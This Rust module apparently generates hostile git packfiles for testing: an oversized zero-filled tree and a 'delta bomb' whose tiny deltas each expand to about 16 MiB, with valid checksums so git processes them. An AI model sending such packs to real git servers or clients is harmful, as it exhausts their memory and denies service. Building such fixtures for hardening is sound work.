//! Packs that are small to send and costly to take.

use flate2::Compression;
use flate2::write::ZlibEncoder;
use sha1::{Digest as _, Sha1};
use std::io::Write as _;

const TREE: u8 = 2;
const BLOB: u8 = 3;
const OFFSET_DELTA: u8 = 6;

/// One tree of this many zero bytes: git holds a tree in memory as a whole.
pub fn huge_tree(size: usize) -> Vec<u8> {
    let mut pack = header(1);
    object(&mut pack, TREE, size, None, &vec![0; size]);
    finish(pack)
}

/// A base of 16 MiB and deltas against it, each of which becomes 16 MiB again from a few bytes.
pub fn delta_bomb(deltas: u32) -> Vec<u8> {
    const BASE: usize = 16 << 20;
    let mut pack = header(deltas + 1);
    let base_at = pack.len();
    object(&mut pack, BLOB, BASE, None, &vec![0; BASE]);
    for number in 0..deltas {
        let mut delta = Vec::new();
        varint(&mut delta, BASE);
        varint(&mut delta, 0xff_ffff + 4);
        // Copies 2^24 - 1 bytes from the beginning of the base, then four bytes of its own.
        delta.extend([0x80 | 0x70, 0xff, 0xff, 0xff, 4]);
        delta.extend(number.to_be_bytes());
        let back = pack.len() - base_at;
        object(&mut pack, OFFSET_DELTA, delta.len(), Some(back), &delta);
    }
    finish(pack)
}

fn header(objects: u32) -> Vec<u8> {
    [b"PACK".as_slice(), &2_u32.to_be_bytes(), &objects.to_be_bytes()].concat()
}

fn object(pack: &mut Vec<u8>, kind: u8, size: usize, back: Option<usize>, content: &[u8]) {
    let mut rest = size >> 4;
    let first = (kind << 4) | (size & 15) as u8;
    pack.push(if rest > 0 { first | 0x80 } else { first });
    while rest > 0 {
        let byte = (rest & 0x7f) as u8;
        rest >>= 7;
        pack.push(if rest > 0 { byte | 0x80 } else { byte });
    }
    if let Some(back) = back {
        offset(pack, back);
    }
    let mut encoder = ZlibEncoder::new(&mut *pack, Compression::best());
    encoder.write_all(content).and_then(|()| encoder.finish().map(drop)).expect("memory takes everything");
}

/// The distance to the base, in git's own encoding: seven bits at a time, each longer form one further.
fn offset(pack: &mut Vec<u8>, mut back: usize) {
    let mut bytes = vec![(back & 0x7f) as u8];
    while back >= 0x80 {
        back = (back >> 7) - 1;
        bytes.push(0x80 | (back & 0x7f) as u8);
    }
    pack.extend(bytes.iter().rev());
}

fn varint(out: &mut Vec<u8>, mut size: usize) {
    while size >= 0x80 {
        out.push(0x80 | (size & 0x7f) as u8);
        size >>= 7;
    }
    out.push(size as u8);
}

/// Adds the trailer: git looks at it before it resolves deltas.
fn finish(mut pack: Vec<u8>) -> Vec<u8> {
    let sum = Sha1::digest(&pack);
    pack.extend(sum);
    pack
}
